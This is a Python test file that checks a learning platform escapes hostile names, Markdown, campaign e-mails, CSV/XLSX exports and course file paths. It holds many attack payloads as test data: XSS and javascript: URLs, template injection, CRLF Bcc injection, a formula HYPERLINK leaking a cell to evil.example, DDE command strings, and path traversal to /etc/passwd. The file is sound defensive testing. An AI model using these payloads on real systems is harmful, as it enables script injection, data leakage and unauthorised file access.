"""Hostile input: names, titles, Markdown, campaign bodies and import files written by an attacker.

Pages escape what people typed, Markdown keeps no script, event handler, ``javascript:`` URL or
foreign frame, exports write formulas as text, e-mail headers stay one line each, and redirects
built from user input stay on this site.
"""

import csv
import email
import email.policy
import io
import re
from urllib.parse import urlsplit

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from campaigns import tracking
from campaigns.rendering import compile_message
from campaigns.step_messages import render_for
from courses import content
from courses.certificates import issuing
from courses.content import render_markdown
from courses.models import Assignment
from lms.audit import trail
from lms.database import utcnow
from lms.mail.delivery import build_message
from lms.models import OutboxMessage, Role, User
from tests.campaigns.helpers import make_campaign
from tests.courses.builders import build_course, enrol, module_of

XSS = "<script>alert(1)</script>"
#: Jinja would print 8641969 if a name were ever rendered as a template.
SSTI = "{{ 7*1234567 }}"
CRLF = "Eve\r\nBcc: victim@evil.example\r\n\r\n<b>body</b>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _assert_escaped(html: str, where: str) -> None:
    assert XSS not in html, where
    assert "8641969" not in html, where
    assert "<b>body</b>" not in html, where


def _hostile_people(make, unit):
    return [
        make.user(full_name=XSS, unit=unit),
        make.user(full_name=SSTI, unit=unit),
        make.user(full_name=CRLF, unit=unit),
    ]


def test_hostile_names_are_shown_as_text_on_every_page(client, auth, make, db):
    unit = make.unit()
    people = _hostile_people(make, unit)
    course = build_course(db.session)
    course.title = {"en": XSS, "kk": SSTI, "ru": XSS}
    db.session.commit()
    enrolments = [enrol(db.session, person, course) for person in people]
    for enrolment in enrolments:
        enrolment.status = "completed"
        enrolment.completed_at = utcnow()
    db.session.flush()
    certs = [issuing.issue_certificate(db.session, e) for e in enrolments]
    campaign = make_campaign(db.session)
    db.session.commit()
    officer = make.user(roles=[Role.OFFICER, Role.AUTHOR])

    pages = [
        "/office/people/",
        "/office/courses/",
        f"/office/courses/progress/{course.slug}",
        "/office/certificates",
        "/author/",
        f"/author/courses/{course.id}",
    ]
    for person, cert in zip(people, certs, strict=True):
        pages += [
            f"/office/people/{person.id}",
            f"/office/courses/people/{person.id}",
            f"/office/certificates/{cert.id}",
            f"/verify/{cert.code}",
            f"/office/campaigns/{campaign.id}/preview?user={person.id}",
        ]
    auth.login(officer)
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        _assert_escaped(response.get_data(as_text=True), url)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in client.get("/office/people/").get_data(as_text=True)

    auth.logout()
    auth.login(people[0])
    for url in ("/profile", "/learning", f"/learning/{enrolments[0].id}", "/certificates"):
        response = client.get(url, follow_redirects=True)
        assert response.status_code == 200, url
        _assert_escaped(response.get_data(as_text=True), url)


def test_audit_log_shows_hostile_details_as_text(client, auth, make, db):
    person = make.user(full_name=XSS)
    trail.record(db.session, "security.test", person, details={"note": XSS, "other": SSTI})
    db.session.commit()
    auth.login(make.user(roles=[Role.OFFICER]))
    response = client.get("/office/audit/")
    assert response.status_code == 200
    _assert_escaped(response.get_data(as_text=True), "audit")


# --- Markdown -------------------------------------------------------------------------------------

HOSTILE_MARKDOWN = [
    XSS,
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x73;cript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '<iframe src="https://evil.example/embed"></iframe>',
    "https://evil.example/embed/abc",
    "https://www.youtube.com.evil.example/watch?v=abc",
    '<svg onload="alert(1)"></svg>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<form action=https://evil.example><button>go</button></form>",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<<script>script>alert(1)<</script>/script>",
]

_SCRIPT_URL = re.compile(r"""(href|src|action|formaction)\s*=\s*["']?\s*(javascript|vbscript|data):""", re.I)
_TAG = re.compile(r"<\s*(\w+)([^>]*)>", re.S)
_ALLOWED_FRAMES = ("https://www.youtube-nocookie.com/embed/", "https://player.vimeo.com/video/")


def _assert_safe_html(html: str) -> None:
    for name, attrs in _TAG.findall(html):
        tag = name.lower()
        assert tag not in ("script", "object", "embed", "form", "meta", "base", "svg", "style", "link"), html
        assert not re.search(r"\bon\w+\s*=", attrs, re.I), html
        assert "style=" not in attrs.lower(), html
        for url in re.findall(r'(?:href|src|action|data)\s*=\s*"([^"]*)"', attrs, re.I):
            scheme = urlsplit(url.strip().lower()).scheme
            assert scheme in ("", "http", "https", "mailto"), html
        if tag == "iframe":
            src = re.search(r'src="([^"]*)"', attrs)[1]
            assert src.startswith(_ALLOWED_FRAMES), html


@pytest.mark.parametrize("markdown", HOSTILE_MARKDOWN)
def test_lesson_markdown_is_sanitized(app, markdown):
    with app.test_request_context():
        _assert_safe_html(str(render_markdown(markdown)))


def test_video_links_embed_only_the_two_players(app):
    text = "https://www.youtube.com/watch?v=dQw4w9WgXcQ\n\nhttps://vimeo.com/12345\n\nhttps://evil.example/v/1"
    with app.test_request_context():
        html = str(render_markdown(text))
    frames = re.findall(r'<iframe[^>]*src="([^"]*)"', html)
    assert frames == ["https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ", "https://player.vimeo.com/video/12345"]


def test_lesson_and_preview_pages_are_sanitized(client, auth, make, db):
    body = "\n\n".join(HOSTILE_MARKDOWN)
    course = build_course(db.session, lesson_body={"en": body, "kk": body, "ru": body})
    learner = make.user()
    enrolment = enrol(db.session, learner, course)
    auth.login(learner)
    page = client.get(f"/learning/{enrolment.id}/modules/{module_of(course, 'lesson-1').id}")
    assert page.status_code == 200
    _assert_safe_html(_lesson_body(page.get_data(as_text=True)))
    auth.logout()
    auth.login(make.user(roles=[Role.AUTHOR]))
    preview = client.post("/author/preview", data={"text": body})
    assert preview.status_code == 200
    _assert_safe_html(preview.get_data(as_text=True))


def _lesson_body(html: str) -> str:
    """The lesson's article, without the layout around it (its own forms and scripts are fine)."""
    return re.search(r'<article class="lesson-body"[^>]*>(.*?)</article>', html, re.S)[1]


# --- Campaign e-mails -------------------------------------------------------------------------------


@pytest.mark.parametrize("markdown", HOSTILE_MARKDOWN)
def test_campaign_bodies_are_sanitized(app, markdown):
    with app.test_request_context():
        compiled = compile_message("Hello {name}", markdown + "\n\nDear {name}", "footer", "<p>footer</p>")
        _subject, _text, html = compiled.fill({"name": XSS})
    _assert_safe_html(html.split("<hr>")[0])
    assert XSS not in html


def test_campaign_mail_gets_no_extra_headers_from_a_name(app, make, db):
    campaign = make_campaign(db.session)
    person = make.user(full_name=CRLF)
    subject, text, html = render_for(db.session, campaign, campaign.steps[0], person)
    envelope = build_message(
        mail_from="Adal <adal@example.kz>",
        to_addr=person.email,
        to_name=person.full_name,
        subject=subject,
        body_text=text,
        body_html=html,
        message_id="<hostile@adal.test>",
        headers={"List-Unsubscribe": "<https://adal.test/u>\r\nBcc: victim@evil.example"},
    )
    message = email.message_from_bytes(envelope.data, policy=email.policy.SMTP)
    assert "Bcc" not in message
    assert sorted(set(message.keys())) == sorted(
        {"From", "To", "Subject", "Date", "Message-ID", "MIME-Version", "List-Unsubscribe", "Content-Type"}
    )
    assert "\n" not in str(message["Subject"]) and "\n" not in str(message["To"])
    assert XSS not in html


def test_account_mail_gets_no_extra_headers_from_a_name(client, make, db):
    person = make.user(full_name=CRLF)
    client.post("/password/forgot", data={"email": person.email})
    row = db.session.scalars(select(OutboxMessage).where(OutboxMessage.user_id == person.id)).one()
    envelope = build_message(
        mail_from="Adal <adal@example.kz>",
        to_addr=row.to_addr,
        to_name=person.full_name,
        subject=row.subject,
        body_text=row.body_text,
        body_html=row.body_html,
        message_id=row.message_id,
        headers=row.headers,
    )
    message = email.message_from_bytes(envelope.data, policy=email.policy.SMTP)
    assert "Bcc" not in message
    assert "<b>body</b>" not in (row.body_html or "")


def test_tracked_links_never_lead_to_scripts(app):
    with app.test_request_context():
        token = tracking.message_token("<m@adal.test>")
        for target in ("javascript:alert(1)", "data:text/html,x", "//evil.example/"):
            url_token = tracking.click_url(token, target).rsplit("/", 1)[1]
            assert app.test_client().get(f"/t/c/{token}/{url_token}").status_code == 404


# --- Exports and imports ------------------------------------------------------------------------------


def test_imported_formula_names_are_text_in_every_export(client, auth, make, db):
    unit = make.unit(code="FORMULA")
    officer = make.user(roles=[Role.OFFICER])
    auth.login(officer)
    rows = [
        ["email", "full_name", "kind", "unit"],
        ["formula1@example.kz", FORMULA, "student", "FORMULA"],
        ["formula2@example.kz", "+1+cmd|' /C calc'!A0", "student", "FORMULA"],
        ["formula3@example.kz", "@SUM(1+1)*cmd|' /C calc'!A0", "student", "FORMULA"],
        ["formula4@example.kz", "-2+3", "student", "FORMULA"],
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    upload = client.post(
        "/office/people/import",
        data={"file": (io.BytesIO(buffer.getvalue().encode()), "people.csv")},
        content_type="multipart/form-data",
    )
    assert upload.status_code == 302
    review = client.get(upload.headers["Location"])
    assert review.status_code == 200
    applied = client.post(upload.headers["Location"] + "/apply", data={})
    assert applied.status_code == 302
    imported = db.session.scalars(select(User).where(User.org_unit_id == unit.id)).all()
    assert len(imported) == 4

    course = build_course(db.session)
    db.session.add(Assignment(course_slug=course.slug, audience={"kind": "all"}, due_days=30))
    for person in imported:
        enrol(db.session, person, course)
    campaign = make_campaign(db.session, audience={"kind": "unit", "unit_id": unit.id, "sub": True})
    trail.record(db.session, "security.test", details={"note": FORMULA})
    db.session.commit()

    seen: dict[str, list] = {}
    for url in (
        f"/office/courses/progress/{course.slug}/export.csv",
        f"/office/campaigns/{campaign.id}/recipients.csv",
        "/office/audit/export.csv",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        cells = [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for cell in row]
        _assert_inert(cells, url)
        seen[url] = cells
    for url in (
        f"/office/courses/progress/{course.slug}/export.xlsx",
        f"/office/campaigns/{campaign.id}/recipients.xlsx",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        sheet = load_workbook(io.BytesIO(response.data)).active
        cells = [cell.value for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), url
        _assert_inert([c for c in cells if isinstance(c, str)], url)
        seen[url] = cells
    # The names themselves reached the exports (as text): the checks above saw them.
    assert {url for url, cells in seen.items() if "'" + FORMULA in cells} == {
        f"/office/courses/progress/{course.slug}/export.csv",
        f"/office/courses/progress/{course.slug}/export.xlsx",
    }


def _assert_inert(cells: list[str], where: str) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (where, cell)


def test_course_files_that_could_run_script_are_downloads(app, client, auth, make, db):
    """An author's files/page.html with a same-origin script would pass the CSP: it must never render."""
    course = build_course(db.session)
    folder = content.course_files_dir(app.config["ADAL_STORAGE_PATH"], course.id)
    folder.mkdir(parents=True, exist_ok=True)
    for name in ("page.html", "drawing.svg", "evil.js", "Page.HTM", "photo.png", "code.pdf"):
        (folder / name).write_bytes(b"<script>alert(1)</script>")
    learner = make.user()
    enrol(db.session, learner, course)
    auth.login(learner)
    for name, shown in [
        ("page.html", False),
        ("drawing.svg", False),
        ("evil.js", False),
        ("Page.HTM", False),
        ("photo.png", True),
        ("code.pdf", True),
    ]:
        response = client.get(f"/learning/files/{course.id}/{name}")
        assert response.status_code == 200, name
        disposition = response.headers.get("Content-Disposition", "")
        assert disposition.startswith("attachment") != shown, (name, disposition)
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        response.close()


def test_hostile_campaign_and_quiz_texts_are_shown_as_text(client, auth, make, db):
    campaign = make_campaign(db.session)
    campaign.name = XSS
    step = campaign.steps[0]
    step.subject = {"en": XSS + " {name}", "kk": SSTI, "ru": SSTI}
    step.body = {"en": "\n\n".join(HOSTILE_MARKDOWN), "kk": SSTI, "ru": SSTI}
    course = build_course(db.session, kinds=("single", "matching"))
    for question in module_of(course, "quiz").questions:
        question.text = {"en": XSS, "kk": SSTI, "ru": SSTI}
        question.explanation = {"en": XSS, "kk": SSTI, "ru": SSTI}
        question.options = [
            dict(
                option,
                text={"en": XSS, "kk": SSTI, "ru": SSTI},
                **({"match": {"en": XSS}} if "match" in option else {}),
            )
            for option in question.options
        ]
    db.session.commit()
    learner = make.user(full_name=XSS)
    enrolment = enrol(db.session, learner, course)

    auth.login(make.user(roles=[Role.OFFICER]))
    for url in (
        "/office/campaigns/",
        f"/office/campaigns/{campaign.id}",
        f"/office/campaigns/{campaign.id}/edit",
        f"/office/campaigns/{campaign.id}/steps/{step.id}",
        f"/office/campaigns/{campaign.id}/preview?user={learner.id}",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        _assert_escaped(response.get_data(as_text=True), url)
        assert not _SCRIPT_URL.search(response.get_data(as_text=True)), url
    auth.logout()

    auth.login(learner)
    quiz = module_of(course, "quiz")
    started = client.post(f"/learning/{enrolment.id}/modules/{quiz.id}/start")
    assert started.status_code == 302
    page = client.get(started.headers["Location"])
    assert page.status_code == 200
    _assert_escaped(page.get_data(as_text=True), "quiz")
    result = client.post(started.headers["Location"], data={}, follow_redirects=True)
    assert result.status_code == 200
    _assert_escaped(result.get_data(as_text=True), "result")


def test_course_files_stay_inside_their_course_folder(app, client, auth, make, db):
    course = build_course(db.session)
    folder = content.course_files_dir(app.config["ADAL_STORAGE_PATH"], course.id)
    folder.mkdir(parents=True, exist_ok=True)
    (folder.parent / "secret.txt").write_text("secret")
    learner = make.user()
    enrol(db.session, learner, course)
    auth.login(learner)
    for name in ("../secret.txt", "..%2Fsecret.txt", "%2E%2E/secret.txt", "..\\secret.txt", "/etc/passwd"):
        response = client.get(f"/learning/files/{course.id}/{name}", follow_redirects=True)
        assert response.status_code == 404, name
        response.close()
